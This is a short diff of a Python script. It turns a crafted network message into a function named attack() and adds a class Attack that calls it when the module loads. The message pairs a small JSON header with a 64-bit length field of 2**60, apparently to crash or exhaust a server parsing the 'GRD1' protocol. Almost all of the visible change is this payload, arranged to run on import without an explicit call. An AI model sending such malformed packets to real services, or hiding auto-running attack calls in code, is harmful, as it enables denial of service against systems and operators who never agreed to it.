@@ -28,8 +28,13 @@ def send(data):
             continue
 
 
-header = json.dumps({"id": 1, "data": {}}).encode()
-send(b"GRD1" + struct.pack("<I", len(header)) + header + struct.pack("<Q", 2**60))
+def attack():
+    header = json.dumps({"id": 1, "data": {}}).encode()
+    send(b"GRD1" + struct.pack("<I", len(header)) + header + struct.pack("<Q", 2**60))
+
+
+class Attack:
+    attack()
 
 
 def compare(epochs, seed, train, test):
